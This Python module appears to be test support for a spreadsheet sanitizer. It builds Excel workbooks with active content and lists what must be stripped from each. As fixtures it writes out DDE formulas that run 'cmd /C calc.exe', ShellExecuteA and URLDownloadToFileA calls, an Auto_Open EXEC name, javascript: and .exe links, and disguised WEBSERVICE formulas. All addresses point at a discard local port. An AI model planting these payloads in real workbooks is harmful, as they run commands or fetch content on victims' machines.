"""Workbooks with something in them that fetches, starts or links, in the layout of `result_samples.order_workbook`.

`{there}` in a text is the address that it would go to.
"""

from collections.abc import Callable
from dataclasses import dataclass
from xml.sax.saxutils import escape, quoteattr

from openpyxl.worksheet.worksheet import Worksheet
from support.result_samples import SHEET, order_workbook, packed, parts_of
from support.rich_workbooks import picture, table

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
ORDERS, SUMMARY, WORKBOOK = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/workbook.xml"
HERE = "http://127.0.0.1:9"


class Package:
    """The parts of a workbook, with ways to put more into them."""

    def __init__(self, change: Callable[[Worksheet], None] | None) -> None:
        self.parts = parts_of(order_workbook(change))

    def refer(self, part: str, kind: str, target: str, *, outside: bool = False) -> str:
        """A reference of a part to another, or to something outside; its id."""
        folder, _, name = part.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels".lstrip("/")
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        known = self.parts.get(rels, empty)
        number = f"rIdActive{known.count(b'<Relationship ')}"
        kind = kind if kind.startswith("http") else f"{OFFICE}/{kind}"
        mode = ' TargetMode="External"' if outside else ""
        line = f'<Relationship Id="{number}" Type="{kind}" Target={quoteattr(target)}{mode}/></Relationships>'
        self.parts[rels] = known.replace(b"</Relationships>", line.encode())
        return number

    def add(self, part: str, content: str, kind: str) -> None:
        """A part of that type."""
        self.parts[part] = content.encode()
        self.in_part("[Content_Types].xml", "</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>')

    def in_part(self, part: str, old: str, new: str) -> None:
        """Replaces what stands in a part."""
        assert old.encode() in self.parts[part], (part, old)
        self.parts[part] = self.parts[part].replace(old.encode(), new.encode(), 1)

    def before(self, part: str, closing: str, new: str) -> None:
        """Puts something before a tag."""
        self.in_part(part, closing, new + closing)

    def formula(self, text: str, *, row: int = 5) -> None:
        """The amount of an order as another formula, with the value it had."""
        self.in_part(ORDERS, f"<f>F{row}*G{row}</f>", f"<f>{escape(text)}</f>")

    def other_workbook(self, content: str, path: str = "") -> None:
        """A connection to another workbook or program: [1] in formulas."""
        part = "xl/externalLinks/externalLink1.xml"
        self.add(
            part,
            f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{content}</externalLink>',
            f"{SHEETS}.externalLink+xml",
        )
        if path:
            assert self.refer(part, "externalLinkPath", path, outside=True) == "rIdActive0"
        named = self.refer(WORKBOOK, "externalLink", f"/{part}")
        self.in_part(
            WORKBOOK,
            "</sheets>",
            f'</sheets><externalReferences><externalReference xmlns:r="{OFFICE}" r:id="{named}"/></externalReferences>',
        )

    def names(self, *names: tuple[str, str]) -> None:
        """Defined names with their formulas."""
        lines = "".join(f'<definedName name="{name}">{escape(text)}</definedName>' for name, text in names)
        self.before(WORKBOOK, "<calcPr", f"<definedNames>{lines}</definedNames>")

    def link(self, cell: str, target: str) -> str:
        """A link on a cell, to stand in `hyperlinks`."""
        named = self.refer(ORDERS, "hyperlink", target, outside=True)
        return f'<hyperlink ref="{cell}" xmlns:r="{OFFICE}" r:id="{named}"/>'


def _other_workbooks(it: Package) -> None:
    sheets = '<sheetNames><sheetName val="Prices"/></sheetNames>'
    book = f'<externalBook xmlns:r="{OFFICE}" r:id="rIdActive0">{sheets}</externalBook>'
    it.other_workbook(book, "file:///{there}/prices.xlsx")
    it.formula("[1]Prices!$B$2*F5")
    it.formula("SUM(Rates)", row=6)
    it.names(("Rates", "[1]Prices!$B$1:$B$9"), ("Twice", "Rates*2"), ("Fine", f"{SHEET}!$F$5:$F$10"))
    it.formula("Twice+1", row=7)
    it.formula("SUM(Fine)", row=8)
    it.in_part("xl/charts/chart1.xml", "'Orders'!$F$5:$F$10", "[1]Prices!$B$1:$B$9")
    it.in_part(ORDERS, '"1,2,3"', "[1]Prices!$A$1:$A$9")
    it.in_part(ORDERS, "<formula>100</formula>", "<formula>[1]Prices!$B$2</formula>")


def _dde(it: Package) -> None:
    item = '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    it.other_workbook(f'<ddeLink ddeService="cmd" ddeTopic="/C calc.exe">{item}</ddeLink>')
    it.formula("[1]!A0")
    it.formula("cmd|'/C calc.exe'!A0", row=6)
    it.formula("MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", row=7)


def _ole_link(it: Package) -> None:
    it.other_workbook(
        f'<oleLink xmlns:r="{OFFICE}" r:id="rIdActive0" progId="Word.Document"><oleItems/></oleLink>',
        "file:///{there}/x.doc",
    )
    it.formula("[1]!'!OLE_LINK1'")


FETCHING = (
    '_xlfn.WEBSERVICE("{there}/w")',
    '_xlfn.FILTERXML(_xlfn.WEBSERVICE("{there}/w"),"//a")',
    'RTD("my.server",,"{there}")',
    '_xlfn.IMAGE("{there}/i.png")',
    'HYPERLINK("file://{there}/x.exe","Click")',
    'HYPERLINK("\\\\{there}\\share","Click")',
    'HYPERLINK(CONCATENATE("jav","ascript:x"))',
    'IMPORTXML("{there}","//a")',
    'IMPORTDATA("{there}")',
    'CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","{there}","","",5)',
    'REGISTER.ID("urlmon","URLDownloadToFileA")',
    'EXEC("{there}")',
    "INDIRECT(\"'{there}/x.ods'#$A.A1\")",
    '_xll.Fetch("{there}")',
    "'{there}/[x.xlsx]Sheet1'!A1",
    "'file:///{there}/x.ods'#$Sheet1.A1",
    'DDE("soffice","{there}","A1")',
    'SQL.REQUEST("DSN={there}","","","select 1")',
    'STOCKHISTORY("{there}",1)',
    'COPILOT("{there}")',
    'CUBEVALUE("{there}","[Measures]")',
    'IF(1=1,_xlfn.WEBSERVICE ("{there}/w"),"")',
)


def _fetching(it: Package) -> None:
    """The amounts of the orders by such formulas, and rows of another sheet."""
    for row, formula in enumerate(FETCHING[:5], start=5):
        it.formula(formula, row=row)
    cells = (f'<c r="A{row}"><f>{escape(text)}</f><v>7</v></c>' for row, text in enumerate(FETCHING, start=2))
    rows = "".join(f'<row r="{row}">{cell}</row>' for row, cell in enumerate(cells, start=2))
    it.before(SUMMARY, "</sheetData>", rows)


def _shared(it: Package) -> None:
    text = escape('_xlfn.WEBSERVICE("{there}/"&amp;F5)'.replace("&amp;", "&"))
    it.in_part(ORDERS, "<f>F5*G5</f>", f'<f t="shared" ref="H5:H7" si="0">{text}</f>')
    it.in_part(ORDERS, "<f>F6*G6</f>", '<f t="shared" si="0"/>')
    it.in_part(ORDERS, "<f>F7*G7</f>", '<f t="shared" si="0"></f>')
    array = escape('_xlfn.WEBSERVICE("{there}/a")')
    it.in_part(ORDERS, '<c r="H8" s="5"><f>F8*G8</f>', f'<c r="H8" s="5" cm="1"><f t="array" ref="H8">{array}</f>')


def _elsewhere(it: Package) -> None:
    bad = escape('_xlfn.WEBSERVICE("{there}")', {'"': "&quot;"})
    it.names(("Go", '_xlfn.WEBSERVICE("{there}")'), ("_xlnm.Auto_Open", 'EXEC("{there}")'))
    it.in_part(ORDERS, "<formula>100</formula>", f"<formula>{bad}</formula>")
    it.in_part(ORDERS, '"1,2,3"', bad)
    x14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
    formula = f'<xm:f xmlns:xm="{MICROSOFT}/excel/2006/main">{bad}</xm:f>'
    rule = f'<x14:cfRule type="expression" priority="9" id="{{1}}">{formula}</x14:cfRule>'
    it.before(
        ORDERS,
        "</worksheet>",
        f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" xmlns:x14="{x14}"><x14:conditionalFormattings>'
        f'<x14:conditionalFormatting>{rule}<xm:sqref xmlns:xm="{MICROSOFT}/excel/2006/main">A5</xm:sqref>'
        "</x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>",
    )
    it.in_part("xl/charts/chart1.xml", "'Orders'!F4", bad)
    it.in_part(
        "xl/tables/table1.xml",
        '<tableColumn id="8" name="Amount"/>',
        f'<tableColumn id="8" name="Amount"><calculatedColumnFormula>{bad}</calculatedColumnFormula></tableColumn>',
    )


def _queries(it: Package) -> None:
    connection = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="Query" type="4" refreshedVersion="8" refreshOnLoad="1">'
        '<webPr url="{there}/q" xml="1"/></connection></connections>'
    )
    it.add("xl/connections.xml", connection, f"{SHEETS}.connections+xml")
    it.refer(WORKBOOK, "connections", "connections.xml")
    query = f'<queryTable xmlns="{MAIN}" name="ExternalData_1" refreshOnLoad="1" connectionId="1"/>'
    it.add("xl/queryTables/queryTable1.xml", query, f"{SHEETS}.queryTable+xml")
    it.refer("xl/tables/table1.xml", "queryTable", "../queryTables/queryTable1.xml")
    it.in_part("xl/tables/table1.xml", 'displayName="Outbound"', 'displayName="Outbound" tableType="queryTable"')
    it.in_part("xl/tables/table1.xml", 'id="8" name="Amount"', 'id="8" name="Amount" queryTableFieldId="8"')
    it.add("customXml/item1.xml", f'<DataMashup xmlns="{MICROSOFT}/DataMashup">AAAA</DataMashup>', "application/xml")
    it.refer(WORKBOOK, "customXml", "../customXml/item1.xml")


def _pivot(it: Package) -> None:
    _put_pivot(it, f'<cacheSource type="worksheet"><worksheetSource ref="A4:H10" sheet="{SHEET}"/></cacheSource>')


def _pivot_from_outside(it: Package) -> None:
    _put_pivot(it, '<cacheSource type="external" connectionId="1"/>')


def _put_pivot(it: Package, source: str) -> None:
    fields = "".join(f'<cacheField name="F{number}"><sharedItems/></cacheField>' for number in range(8))
    cache = f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1" refreshedBy="x" recordCount="0">{source}'
    it.add(
        "xl/pivotCache/pivotCacheDefinition1.xml",
        f'{cache}<cacheFields count="8">{fields}</cacheFields></pivotCacheDefinition>',
        f"{SHEETS}.pivotCacheDefinition+xml",
    )
    named = it.refer(WORKBOOK, "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
    it.in_part(
        WORKBOOK,
        "</workbook>",
        f'<pivotCaches><pivotCache xmlns:r="{OFFICE}" cacheId="1" r:id="{named}"/></pivotCaches></workbook>',
    )


def _links(it: Package) -> None:
    targets = {
        "A5": "file:///{there}/x.exe", "A6": "\\\\{there}\\share\\x.xlsx", "A7": "javascript:alert(1)",
        "A8": "{there}/page", "A9": "..\\..\\x.exe", "A10": "ms-excel:ofe|u|{there}/x.xlsx", "B5": "https://example.com/track?n=1",
        "B6": "mailto:desk@example.com", "B7": "x.bat", "B8": "//evil/x",
    }  # fmt: skip
    lines = "".join(it.link(cell, target) for cell, target in targets.items())
    it.in_part(ORDERS, "<pageMargins", f"<hyperlinks>{lines}</hyperlinks><pageMargins")
    drawing = "xl/drawings/drawing1.xml"
    click = it.refer(drawing, "hyperlink", "file:///{there}/x.exe", outside=True)
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    it.in_part(
        drawing,
        'descr="Picture"/>',
        f'descr="Picture"><a:hlinkClick xmlns:a="{a}" xmlns:r="{OFFICE}" r:id="{click}"/></cNvPr>',
    )
    it.in_part("docProps/app.xml", "</Properties>", "<HyperlinkBase>file:///{there}/</HyperlinkBase></Properties>")


def _only_bad_links(it: Package) -> None:
    it.in_part(ORDERS, "<pageMargins", f"<hyperlinks>{it.link('A5', '{there}/page')}</hyperlinks><pageMargins")


def _linked_picture(it: Package) -> None:
    drawing = "xl/drawings/drawing1.xml"
    linked = it.refer(drawing, "image", "{there}/pixel.png", outside=True)
    it.in_part(drawing, 'r:embed="rId1"', f'r:link="{linked}" r:embed="rId1"')
    background = it.refer(ORDERS, "image", "{there}/background.png", outside=True)
    it.in_part(ORDERS, "</worksheet>", f'<picture xmlns:r="{OFFICE}" r:id="{background}"/></worksheet>')


def _picture_from_elsewhere(it: Package) -> None:
    linked = it.refer("xl/drawings/drawing1.xml", "image", "{there}/pixel.png", outside=True)
    it.in_part("xl/drawings/drawing1.xml", 'r:embed="rId1"', f'r:link="{linked}"')


def _svg(it: Package) -> None:
    it.add(
        "xl/media/image9.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="{there}/x.png"/></svg>',
        "image/svg+xml",
    )
    named = it.refer("xl/drawings/drawing1.xml", "image", "../media/image9.svg")
    svg = (
        '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
        f'xmlns:asvg="{MICROSOFT}/drawing/2016/SVG/main" r:embed="{named}"/></a:ext></a:extLst></a:blip>'
    )
    it.in_part("xl/drawings/drawing1.xml", 'r:embed="rId1"/>', f'r:embed="rId1">{svg}')


def _programs(it: Package) -> None:
    it.add(
        "xl/vbaStuff.bin",
        "Attribute VB_Name: Shell {there}",
        "application/vnd.ms-office.vbaProject",
    )
    it.refer(WORKBOOK, f"{MICROSOFT}/2006/relationships/vbaProject", "vbaStuff.bin")
    it.add(
        "customUI/customUI14.xml",
        '<customUI onLoad="Run" xmlns="http://schemas.microsoft.com/office/2009/07/customui"/>',
        "application/xml",
    )
    it.refer("", f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml")
    we = "http://schemas.microsoft.com/office/webextensions"
    it.add(
        "xl/webextensions/taskpanes.xml",
        f'<wetp:taskpanes xmlns:wetp="{we}/taskpanes/2010/11"/>',
        "application/vnd.ms-office.webextensiontaskpanes+xml",
    )
    it.refer("", f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml")
    it.add(
        "xl/webextensions/webextension1.xml",
        f'<we:webextension xmlns:we="{we}/webextension/2010/11"/>',
        "application/vnd.ms-office.webextension+xml",
    )
    it.refer("xl/webextensions/taskpanes.xml", f"{MICROSOFT}/2011/relationships/webextension", "webextension1.xml")
    it.in_part("xl/drawings/drawing1.xml", "<oneCellAnchor>", '<oneCellAnchor macro="[0]!Shell_It">')
    it.in_part(
        "xl/drawings/commentsDrawing1.vml",
        'ObjectType="Note">',
        'ObjectType="Note"><ns2:FmlaMacro>[0]!Shell_It</ns2:FmlaMacro>',
    )


def _rtd_topics(it: Package) -> None:
    topics = f'<volTypes xmlns="{MAIN}"><volType type="realTimeData"><main first="my.server"/></volType></volTypes>'
    it.add("xl/volatileDependencies.xml", topics, f"{SHEETS}.volatileDependencies+xml")
    it.refer(WORKBOOK, "volatileDependencies", "volatileDependencies.xml")


def _orphans(it: Package) -> None:
    it.parts["xl/vbaProject9.bin"] = b"Shell"
    it.parts["xl/externalLinks/externalLink7.xml"] = b'<ddeLink ddeService="cmd"/>'
    it.parts["xl/charts/_RELS/chart1.xml.rels"] = b'<Relationships><Relationship Target="{there}"/></Relationships>'


def _embedded(it: Package) -> None:
    it.add("xl/embeddings/oleObject1.bin", "Packager", "application/vnd.openxmlformats-officedocument.oleObject")
    named = it.refer(ORDERS, "oleObject", "../embeddings/oleObject1.bin")
    shown = f'<oleObject xmlns:r="{OFFICE}" progId="Packager" shapeId="1026" r:id="{named}"/>'
    it.before(ORDERS, "</worksheet>", f"<oleObjects>{shown}</oleObjects>")


def _activex(it: Package) -> None:
    it.add("xl/activeX/activeX1.xml", "<ocx/>", "application/vnd.ms-office.activeX+xml")
    named = it.refer(ORDERS, "control", "../activeX/activeX1.xml")
    it.in_part(
        ORDERS,
        "</worksheet>",
        f'<controls><control xmlns:r="{OFFICE}" shapeId="1026" r:id="{named}" name="Button1"/></controls></worksheet>',
    )


def _macro_sheet(it: Package) -> None:
    it.add(
        "xl/macrosheets/sheet9.xml",
        f'<xm:macrosheet xmlns:xm="{MICROSOFT}/excel/2006/main"/>',
        "application/vnd.ms-excel.macrosheet+xml",
    )
    named = it.refer(WORKBOOK, f"{MICROSOFT}/2006/relationships/xlMacrosheet", "macrosheets/sheet9.xml")
    it.in_part(
        WORKBOOK,
        "</sheets>",
        f'<sheet xmlns:r="{OFFICE}" name="Macro1" sheetId="9" state="veryHidden" r:id="{named}"/></sheets>',
    )


def _macro_sheet_as_sheet(it: Package) -> None:
    _macro_sheet(it)
    rels = "xl/_rels/workbook.xml.rels"
    it.in_part(rels, f"{MICROSOFT}/2006/relationships/xlMacrosheet", f"{OFFICE}/worksheet")


def _old_drawing(it: Package) -> None:
    it.in_part(
        "xl/drawings/commentsDrawing1.vml",
        '<ns0:fill color2="#ffffe1"/>',
        '<ns0:fill color2="#ffffe1" src="{there}/vml.png"/>',
    )


def _target_without_mode(it: Package) -> None:
    it.refer("xl/drawings/drawing1.xml", "chart", "{there}/chart.xml")


def _chart_data(it: Package) -> None:
    named = it.refer("xl/charts/chart1.xml", "oleObject", "file:///{there}/book.xlsx", outside=True)
    it.in_part(
        "xl/charts/chart1.xml",
        "</chartSpace>",
        f'<externalData xmlns:r="{OFFICE}" r:id="{named}"><autoUpdate val="1"/></externalData></chartSpace>',
    )


def _doctype(it: Package) -> None:
    it.in_part("xl/sharedStrings.xml", "<sst", '<!DOCTYPE sst SYSTEM "{there}/x.dtd"><sst')


def _hidden_formula(it: Package) -> None:
    it.in_part(ORDERS, "<f>F5*G5</f>", '<f>_xlfn.WEB<?x y?>SERVICE("{there}")</f>')


def _hidden_in_attribute(it: Package) -> None:
    it.in_part(ORDERS, "<f>F5*G5</f>", '<f ca=">&quot;&quot;">_xlfn.WEBSERVICE("{there}")</f>')


def _other_prefix(it: Package) -> None:
    it.in_part(ORDERS, "<f>F5*G5</f>", f'<m:f xmlns:m="{MAIN}">&#95;xlfn.WEBSERVI&#x43;E("{{there}}")</m:f>')


@dataclass(frozen=True)
class Active:
    """One of them: what is put in, what must not come back, and what people are told; told is empty for a plain copy.

    change: what the sheet has besides.
    """

    put: Callable[[Package], None]
    gone: tuple[str, ...]
    told: frozenset[str] = frozenset()
    change: Callable[[Worksheet], None] | None = None

    def workbook(self, there: str = HERE) -> bytes:
        """The workbook; `there` is the address that it would go to."""
        package = Package(self.change)
        self.put(package)
        return packed({name: part.replace(b"{there}", there.encode()) for name, part in package.parts.items()})


def _active(
    put: Callable[[Package], None], gone: str, told: str = "", change: Callable[[Worksheet], None] | None = None
) -> Active:
    return Active(put, tuple(gone.split()), frozenset(told.split()), change)


THERE = "127.0.0.1"
ACTIVE: dict[str, Active] = {
    "other workbooks": _active(
        _other_workbooks, f"{THERE} [1] externalLink externalReference prices.xlsx", "formulas other_workbooks"
    ),
    "dde": _active(_dde, "ddeLink ddeService cmd calc.exe externalLink [1]", "formulas other_workbooks"),
    "ole link": _active(_ole_link, f"{THERE} oleLink externalLink Word.Document", "formulas other_workbooks"),
    "formulas": _active(
        _fetching,
        f"{THERE} xlfn RTD( EXEC IMPORT CALL( REGISTER [x.xlsx] INDIRECT _xll DDE( HYPERLINK SQL STOCK COPILOT CUBE",
        "formulas",
    ),
    "shared and array formulas": _active(_shared, f"{THERE} WEBSERVICE", "formulas"),
    "formulas beside the cells": _active(_elsewhere, f"{THERE} WEBSERVICE EXEC", "formulas", table),
    "queries": _active(
        _queries,
        f"{THERE} connections queryTable DataMashup refreshOnLoad customXml connectionId",
        "data_queries parts",
        table,
    ),
    "pivot": _active(_pivot, "refreshOnLoad", "data_queries"),
    "pivot from outside": _active(_pivot_from_outside, "refreshOnLoad connectionId"),
    "links": _active(_links, f"{THERE} file: javascript: ms-excel: x.exe x.bat HyperlinkBase evil", "links", picture),
    "one bad link": _active(_only_bad_links, f"{THERE} hyperlink", "links"),
    "linked picture": _active(_linked_picture, f"{THERE} r:link External", "links", picture),
    "picture from elsewhere": _active(_picture_from_elsewhere, f"{THERE} r:link External", "links", picture),
    "svg": _active(_svg, f"{THERE} svg", "links", picture),
    "programs": _active(_programs, f"{THERE} vba customUI taskpane webextension Shell", "programs", picture),
    "rtd topics": _active(_rtd_topics, "my.server volatile realTimeData", "other_workbooks"),
    "orphans": _active(_orphans, f"{THERE} vba ddeLink Shell externalLink", "parts"),
    "embedded object": _active(_embedded, "oleObject Packager embeddings"),
    "activex": _active(_activex, "activeX control ocx"),
    "macro sheet": _active(_macro_sheet, "macro"),
    "macro sheet as a sheet": _active(_macro_sheet_as_sheet, "macrosheet Macro1"),
    "old drawing": _active(_old_drawing, f"{THERE} vml.png"),
    "target without mode": _active(_target_without_mode, THERE),
    "data of a chart": _active(_chart_data, f"{THERE} externalData External oleObject"),
    "doctype": _active(_doctype, f"{THERE} DOCTYPE"),
    "formula in pieces": _active(_hidden_formula, f"{THERE} WEB SERVICE"),
    "formula behind an attribute": _active(_hidden_in_attribute, f"{THERE} WEBSERVICE"),
    "formula with another prefix": _active(_other_prefix, f"{THERE} xlfn", "formulas"),
}
